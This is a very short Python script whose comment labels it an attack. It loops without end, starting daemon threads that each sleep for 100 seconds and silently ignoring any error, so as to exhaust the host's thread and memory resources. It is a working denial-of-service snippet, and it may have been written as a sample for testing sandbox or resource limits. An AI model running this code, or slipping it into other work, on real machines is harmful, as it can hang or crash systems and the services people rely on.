# Attack: start threads without end.
import threading, time
while True:
    try:
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
    except Exception:
        pass
